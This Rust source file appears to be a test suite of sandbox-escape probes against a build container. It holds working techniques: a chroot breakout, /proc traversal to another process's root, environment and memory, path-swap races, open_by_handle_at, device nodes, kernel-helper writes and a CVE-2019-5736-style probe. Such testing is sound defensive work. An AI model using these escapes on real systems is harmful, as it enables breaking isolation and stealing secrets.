//! Out of the root, and what lies outside of it.

use std::ffi::CString;
use std::fs::{self, File};
use std::io::{self, Read};
use std::os::fd::AsRawFd;
use std::os::linux::net::SocketAddrExt;
use std::os::unix::fs::{FileExt, PermissionsExt, symlink};
use std::os::unix::net::{SocketAddr, UnixStream};
use std::path::{Path, PathBuf};
use std::sync::atomic::{AtomicBool, Ordering};

use nix::libc;
use rustix::fs::Mode;

use super::{Done, got_in, show};
use crate::raw;
use crate::world::{self, Target};

/// The oldest one: a working directory above a second root.
fn break_out() -> Done {
    fs::create_dir_all("/tmp/hole")?;
    let top = File::open("/")?;
    nix::unistd::chroot("/tmp/hole")?;
    nix::unistd::fchdir(&top)?;
    for _ in 0..64 {
        nix::unistd::chdir("..")?;
    }
    Ok(nix::unistd::chroot(".")?)
}

pub fn second_root_read(target: &Target) -> Done {
    break_out()?;
    show(&fs::read(&target.secret)?)
}

/// Landlock does not ask for a change of mode.
pub fn second_root_chmod(target: &Target) -> Done {
    break_out()?;
    fs::set_permissions(&target.canary, fs::Permissions::from_mode(0o777))
}

/// Nor for a connection.
pub fn second_root_connect(target: &Target) -> Done {
    break_out()?;
    show(&world::hear(UnixStream::connect(&target.socket)?)?)
}

/// Nor for watching.
pub fn second_root_watch(target: &Target) -> Done {
    break_out()?;
    watch(&target.secret)?;
    got_in()
}

fn of_builder(target: &Target, name: &str) -> PathBuf {
    PathBuf::from(format!("/proc/{}/{name}", target.builder))
}

fn below(base: PathBuf, path: &Path) -> PathBuf {
    base.join(path.strip_prefix("/").unwrap_or(path))
}

pub fn root_of_builder(target: &Target) -> Done {
    show(&fs::read(below(of_builder(target, "root"), &target.secret))?)
}

pub fn root_of_builders_task(target: &Target) -> Done {
    let name = format!("task/{}/root", target.builder);
    show(&fs::read(below(of_builder(target, &name), &target.secret))?)
}

pub fn directory_of_builder(target: &Target) -> Done {
    show(&fs::read(of_builder(target, "cwd/secret"))?)
}

pub fn descriptor_of_builder(target: &Target) -> Done {
    show(&fs::read(of_builder(target, &format!("fd/{}/secret", target.descriptor)))?)
}

pub fn environment_of_builder(target: &Target) -> Done {
    show(&fs::read(of_builder(target, "environ"))?)
}

pub fn memory_of_builder(target: &Target) -> Done {
    let mut bytes = vec![0; target.length];
    File::open(of_builder(target, "mem"))?.read_exact_at(&mut bytes, target.address as u64)?;
    show(&bytes)
}

pub fn write_memory_of_builder(target: &Target) -> Done {
    let memory = File::options().write(true).open(of_builder(target, "mem"))?;
    // The same bytes, so that only a difference could show: one is another.
    memory.write_all_at(b"S", target.address as u64)
}

/// Everything that changes a file or directory by its name, by every way to name
/// one outside that /proc has.
pub fn change_through_proc(target: &Target) -> Done {
    use rustix::fs::{AtFlags, CWD, Timespec, Timestamps};
    let up = "../../../../../../../../../../../..";
    let bases = [
        of_builder(target, "root"),
        of_builder(target, &format!("task/{}/root", target.builder)),
        PathBuf::from(format!("/proc/self/cwd/{up}")),
        PathBuf::from(format!("/proc/self/root/{up}")),
        PathBuf::from(format!("/proc/self/fd/0/{up}")),
        PathBuf::from(format!("/proc/thread-self/cwd/{up}")),
        PathBuf::from(format!("/proc/1/root/{up}")),
        PathBuf::from(format!("/dev/fd/../../{up}")),
    ];
    let times = Timestamps {
        last_access: Timespec { tv_sec: 7, tv_nsec: 7 },
        last_modification: Timespec { tv_sec: 7, tv_nsec: 7 },
    };
    fs::write("/tmp/own", "own")?;
    for base in bases {
        let [canary, trap] = ["canary", "trap"].map(|name| below(base.clone(), &target.directory.join(name)));
        // One that works is enough, and shows outside.
        let _ = fs::write(&canary, "changed");
        let _ = fs::set_permissions(&canary, fs::Permissions::from_mode(0o777));
        let _ = std::os::unix::fs::lchown(&canary, Some(7), Some(7));
        let _ = std::os::unix::fs::chown(&canary, Some(7), Some(7));
        let _ = rustix::fs::utimensat(CWD, &canary, &times, AtFlags::empty());
        let _ = rustix::fs::setxattr(&canary, "user.changed", b"x", rustix::fs::XattrFlags::empty());
        let _ = fs::create_dir(trap.join("made"));
        let _ = fs::write(trap.join("written"), "x");
        let _ = symlink("x", trap.join("linked"));
        let _ = rustix::fs::linkat(CWD, "/tmp/own", CWD, trap.join("hard"), AtFlags::SYMLINK_FOLLOW);
        let _ = rustix::fs::linkat(CWD, &canary, CWD, "/tmp/taken", AtFlags::SYMLINK_FOLLOW);
        let _ = fs::rename("/tmp/own", trap.join("moved"));
        let kind = rustix::fs::FileType::CharacterDevice;
        let _ = rustix::fs::mknodat(CWD, trap.join("node"), kind, Mode::from_raw_mode(0o666), 259);
        let _ = rustix::fs::mknodat(
            CWD,
            trap.join("fifo"),
            rustix::fs::FileType::Fifo,
            Mode::from_raw_mode(0o666),
            0,
        );
        let _ = fs::remove_file(&canary);
        let _ = fs::remove_dir(&trap);
        if nix::unistd::chdir(&trap).is_ok() {
            got_in()?;
            nix::unistd::chdir("/")?;
        }
    }
    Ok(())
}

pub fn command_line_of_others(target: &Target) -> Done {
    show(&fs::read(format!("/proc/{}/cmdline", target.victim))?)
}

pub fn list_of_processes(target: &Target) -> Done {
    let victim = target.victim.to_string();
    for entry in fs::read_dir("/proc")? {
        if entry?.file_name().to_str() == Some(&victim) {
            got_in()?;
        }
    }
    Ok(())
}

/// `..` of a working directory, through the link in /proc.
pub fn up_from_own_directory(target: &Target) -> Done {
    let up = "/proc/self/cwd/../../../../../../../../../../../..";
    show(&fs::read(below(PathBuf::from(up), &target.secret))?)
}

pub fn up_from_own_root(target: &Target) -> Done {
    let up = "/proc/self/root/../../../../../../../../../../../..";
    show(&fs::read(below(PathBuf::from(up), &target.secret))?)
}

/// From a directory of /proc that programs list all the time.
fn climb_from_listing() -> io::Result<()> {
    let list = File::open("/proc/self/fd")?;
    nix::unistd::fchdir(&list)?;
    Ok(nix::unistd::chdir("../../..")?)
}

fn relative(path: &Path) -> &Path {
    path.strip_prefix("/").unwrap_or(path)
}

pub fn climb_and_chmod(target: &Target) -> Done {
    climb_from_listing()?;
    fs::set_permissions(relative(&target.canary), fs::Permissions::from_mode(0o777))
}

pub fn climb_and_touch(target: &Target) -> Done {
    climb_from_listing()?;
    let now = rustix::fs::Timespec { tv_sec: 7, tv_nsec: 7 };
    let times = rustix::fs::Timestamps { last_access: now, last_modification: now };
    let flags = rustix::fs::AtFlags::empty();
    Ok(rustix::fs::utimensat(rustix::fs::CWD, relative(&target.canary), &times, flags)?)
}

pub fn climb_and_connect(target: &Target) -> Done {
    climb_from_listing()?;
    show(&world::hear(UnixStream::connect(relative(&target.socket))?)?)
}

/// A thread changes the path after the supervisor has looked at it.
pub fn racing_path(target: &Target) -> Done {
    let good = b"/proc/self/status\0".to_vec();
    let mut bad = of_builder(target, "environ").into_os_string().into_encoded_bytes();
    bad.push(0);
    let mut path = [0_u8; 64];
    path[..good.len()].copy_from_slice(&good);
    let place = raw::at(&path);
    let done = AtomicBool::new(false);
    std::thread::scope(|scope| {
        scope.spawn(|| {
            while !done.load(Ordering::Relaxed) {
                for text in [&bad, &good] {
                    // Written by the kernel, behind the compiler's back.
                    let _ = overwrite(place, text);
                }
            }
        });
        for _ in 0..1000 {
            let here = libc::AT_FDCWD as isize as usize;
            if let Ok(fd) = raw::call(libc::SYS_openat, &[here, place, 0, 0]) {
                let mut bytes = vec![0_u8; 4096];
                let read = raw::call(libc::SYS_read, &[fd, bytes.as_mut_ptr() as usize, bytes.len()]);
                let _ = raw::call(libc::SYS_close, &[fd]);
                let bytes = &bytes[..read.unwrap_or(0)];
                if !bytes.starts_with(b"Name:") {
                    let _ = show(bytes);
                }
            }
        }
        done.store(true, Ordering::Relaxed);
    });
    Ok(())
}

fn overwrite(place: usize, text: &[u8]) -> io::Result<()> {
    let own = nix::unistd::Pid::this();
    let remote = [nix::sys::uio::RemoteIoVec { base: place, len: text.len() }];
    nix::sys::uio::process_vm_writev(own, &[io::IoSlice::new(text)], &remote)?;
    Ok(())
}

/// A thread swaps a directory for a link while opens go through it.
pub fn racing_rename(target: &Target) -> Done {
    fs::create_dir_all("/tmp/a/fd")?;
    fs::write("/tmp/a/fd/secret", "not this one")?;
    symlink(of_builder(target, "cwd"), "/tmp/b")?;
    let done = AtomicBool::new(false);
    std::thread::scope(|scope| {
        scope.spawn(|| {
            while !done.load(Ordering::Relaxed) {
                let flags = rustix::fs::RenameFlags::EXCHANGE;
                let here = rustix::fs::CWD;
                let _ = rustix::fs::renameat_with(here, "/tmp/a", here, "/tmp/b", flags);
            }
        });
        for _ in 0..300 {
            for path in ["/tmp/a/secret", "/tmp/a/fd/secret", "/proc/self/cwd/tmp/a/secret"] {
                if let Ok(bytes) = fs::read(path)
                    && bytes != b"not this one"
                {
                    let _ = show(&bytes);
                }
            }
        }
        done.store(true, Ordering::Relaxed);
    });
    // Without a race at last: one of the two is the link.
    for path in ["/tmp/a/secret", "/tmp/b/secret"] {
        show(&fs::read(path).unwrap_or_default())?;
    }
    Ok(())
}

/// Every descriptor that came along.
pub fn inherited_descriptors(target: &Target) -> Done {
    for number in 3..4096 {
        let name = c"secret".to_bytes_with_nul();
        if let Ok(fd) = raw::call(libc::SYS_openat, &[number, raw::at(name), libc::O_RDONLY as usize]) {
            let mut bytes = vec![0_u8; 256];
            let count = raw::call(libc::SYS_read, &[fd, bytes.as_mut_ptr() as usize, bytes.len()])?;
            show(&bytes[..count])?;
        }
        let name = c"canary".to_bytes_with_nul();
        // Where opening is refused, a change of mode may not be.
        let _ = raw::call(libc::SYS_fchmodat, &[number, raw::at(name), 0o777]);
    }
    let _ = target;
    Ok(())
}

pub fn abstract_socket(target: &Target) -> Done {
    let address = SocketAddr::from_abstract_name(&target.abstract_socket)?;
    show(&world::hear(UnixStream::connect_addr(&address)?)?)
}

pub fn socket_by_path(target: &Target) -> Done {
    let path = below(of_builder(target, "root"), &target.socket);
    show(&world::hear(UnixStream::connect(path)?)?)
}

/// A handle names a file without a path (name_to_handle_at(2)); this one was
/// made outside, on the same file system.
pub fn open_by_handle(target: &Target) -> Done {
    let top = File::open("/home")?;
    let handle = target.handle.clone();
    let arguments = [top.as_raw_fd() as usize, raw::at(handle.as_slice()), libc::O_RDONLY as usize];
    let fd = raw::call(libc::SYS_open_by_handle_at, &arguments)?;
    let mut bytes = vec![0_u8; 256];
    let count = raw::call(libc::SYS_read, &[fd, bytes.as_mut_ptr() as usize, bytes.len()])?;
    show(&bytes[..count])
}

/// A harmless one (10:229 is /dev/fuse) stands for a disk: which numbers open is
/// for the container's device rules to say, whether any but the usual does for us.
fn open_device_in(directory: &str) -> Done {
    let path = Path::new(directory).join("disk");
    let device = rustix::fs::makedev(10, 229);
    let here = rustix::fs::CWD;
    let kind = rustix::fs::FileType::CharacterDevice;
    rustix::fs::mknodat(here, &path, kind, Mode::from_raw_mode(0o666), device)?;
    // A placeholder has nothing in it; this device refuses whoever mounted nothing.
    match File::open(&path)?.read(&mut [0; 16]) {
        Err(error) if error.kind() == io::ErrorKind::PermissionDenied => got_in(),
        other => other.map(drop),
    }
}

pub fn device_in_the_root(_: &Target) -> Done {
    open_device_in("/home")
}

pub fn device_in_dev(_: &Target) -> Done {
    open_device_in("/dev")
}

/// Names of the host's devices, made here, that change the host's.
pub fn change_a_device(_: &Target) -> Done {
    fs::set_permissions("/dev/full", fs::Permissions::from_mode(0o667))
}

pub fn setting(_: &Target) -> Done {
    let now = fs::read_to_string(world::SETTING)?;
    fs::write(world::SETTING, if now.trim() == "1" { "2" } else { "1" })
}

/// Programs that the kernel starts as root of the machine. Written as they are, so
/// that a control changes nothing.
pub fn kernel_helpers(_: &Target) -> Done {
    for name in ["core_pattern", "modprobe", "hotplug", "poweroff_cmd"] {
        let path = Path::new("/proc/sys/kernel").join(name);
        if let Ok(text) = fs::read(&path)
            && fs::write(&path, text).is_ok()
        {
            got_in()?;
        }
    }
    Ok(())
}

/// Files of /proc that are not a process's: every /proc has the same.
pub fn change_what_is_shared(_: &Target) -> Done {
    let mut done = Err(io::ErrorKind::NotFound.into());
    for path in world::SHARED {
        done = fs::set_permissions(path, fs::Permissions::from_mode(0o440)).or(done);
    }
    done
}

/// `h` prints what other letters would do.
pub fn magic_key(_: &Target) -> Done {
    fs::write("/proc/sysrq-trigger", "h")?;
    got_in()
}

pub fn kernel_memory(_: &Target) -> Done {
    let mut bytes = [0; 4];
    File::open("/proc/kcore")?.read_exact(&mut bytes)?;
    if &bytes == b"\x7fELF" { got_in() } else { Ok(()) }
}

/// Hears of everything that happens to a file outside.
pub fn watch_outside(target: &Target) -> Done {
    for base in [of_builder(target, "root"), PathBuf::from("/proc/self/root/../../../../../..")] {
        if watch(&below(base, &target.secret)).is_ok() {
            got_in()?;
        }
    }
    Ok(())
}

fn watch(path: &Path) -> io::Result<usize> {
    const ALL: usize = 0xfff;
    let watch = raw::call(libc::SYS_inotify_init1, &[0])?;
    let path = CString::new(path.as_os_str().as_encoded_bytes())?;
    raw::call(libc::SYS_inotify_add_watch, &[watch, raw::at(path.as_bytes_with_nul()), ALL])
}

/// A script whose interpreter is a program outside: the kernel opens it.
pub fn interpreter_outside(target: &Target) -> Done {
    use std::os::unix::process::CommandExt;
    let interpreter = below(of_builder(target, "root"), &target.program);
    fs::write(super::INTERPRETED, format!("#!{} {}\n", interpreter.display(), super::MARK))?;
    fs::set_permissions(super::INTERPRETED, fs::Permissions::from_mode(0o755))?;
    Err(std::process::Command::new(super::INTERPRETED).exec())
}

/// Through an open for writing that the supervisor makes.
pub fn sys_setting(_: &Target) -> Done {
    let now: u32 = fs::read_to_string(world::SYS_SETTING)?.trim().parse().map_err(io::Error::other)?;
    fs::write(world::SYS_SETTING, (now + 1).to_string())
}

pub fn control_group(target: &Target) -> Done {
    let mut done = Err(io::ErrorKind::NotFound.into());
    for path in world::GROUPS {
        done = fs::create_dir(Path::new(path).join(&target.nonce_name)).or(done);
    }
    done
}

/// What was bound read-only, or made read-only after.
pub fn write_a_read_only_mount(_: &Target) -> Done {
    fs::write("/lent/new", "from inside")
}

/// The program that carried this RUN (CVE-2019-5736), which is this one: the
/// RUN was told to execute /proc/self/exe.
pub fn change_the_carrier(_: &Target) -> Done {
    fs::set_permissions("/proc/self/exe", fs::Permissions::from_mode(0o777))
}
